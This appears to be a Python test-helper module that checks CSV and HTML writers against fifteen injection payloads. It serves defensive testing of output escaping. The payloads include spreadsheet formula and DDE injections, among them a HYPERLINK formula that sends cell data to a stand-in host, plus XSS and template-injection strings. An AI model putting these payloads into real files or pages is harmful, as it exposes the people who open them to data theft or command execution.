"""Fifteen texts made to become a formula, markup or a script where they are shown, and checks that they did not.

Import it wherever something is written that others open: `check_csv` and `check_html` take the writer as a function of
one untrusted text, and compare its output for each payload with that for a plain word.
"""

import csv
import io
from collections.abc import Callable
from html.parser import HTMLParser

PLAIN = "plain"
PAYLOADS = (
    '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",  # full width: some spreadsheets take it for the plain one
    '","=1+1","',
    "two\r\n=1+1,lines",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</title></style></textarea></script><svg onload=alert(1)>",
    "<!--><a href=javascript:alert(1)>",
    "javascript:alert(1)",
    "&lt;script&gt;{{7*7}}${7*7}<%= 7*7 %>",
)
FORMULA_STARTS = "=+-@\t\r\n＝＋－＠"
ADDRESSES = {"href", "src", "action", "formaction", "data", "poster", "srcdoc", "xlink:href"}


def check_csv(write: Callable[[str], str], has_payload: bool = True) -> None:
    """Assert that no cell is a formula and that each payload stays in its cell; it may be left out altogether."""
    shape = [len(row) for row in _read_rows(write(PLAIN))]
    for payload in PAYLOADS:
        rows = _read_rows(write(payload))
        assert [len(row) for row in rows] == shape, f"{payload!r} changes the rows"
        cells = [cell for row in rows for cell in row]
        formulas = [cell for cell in cells if cell[:1] in FORMULA_STARTS and cell and not _is_number(cell)]
        assert not formulas, f"{payload!r} becomes a formula: {formulas}"
        assert not has_payload or any(payload.strip() in cell for cell in cells), f"{payload!r} is not there"


def check_html(write: Callable[[str], str], has_payload: bool = True) -> None:
    """Assert that each payload is text and nothing else: no element, attribute, comment or address comes of it."""
    plain = Skeleton(write(PLAIN))
    for payload in PAYLOADS:
        document = Skeleton(write(payload))
        assert document.parts == plain.parts, f"{payload!r} becomes markup"
        assert not has_payload or payload.strip() in document.text, f"{payload!r} is not there as it is"


class Skeleton(HTMLParser):
    """Return the markup of a document and its text separately."""

    def __init__(self, document: str) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[object] = []
        self._words: list[str] = []
        self.feed(str(document))
        self.close()

    @property
    def text(self) -> str:
        return "".join(self._words)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.parts.append((tag, [name for name, _ in attrs]))
        for name, value in attrs:
            self._words.append(f"{value} ")
            scheme = "".join((value or "").split()).lower().partition(":")[0]
            assert name not in ADDRESSES or scheme not in ("javascript", "vbscript"), f"{tag} leads to {value!r}"

    def handle_endtag(self, tag: str) -> None:
        self.parts.append(tag)

    def handle_data(self, data: str) -> None:
        self._words.append(data)

    def handle_comment(self, data: str) -> None:
        self.parts.append(("comment", data))

    def handle_decl(self, decl: str) -> None:
        self.parts.append(("declaration", decl))

    def handle_pi(self, data: str) -> None:
        self.parts.append(("instruction", data))


def _read_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
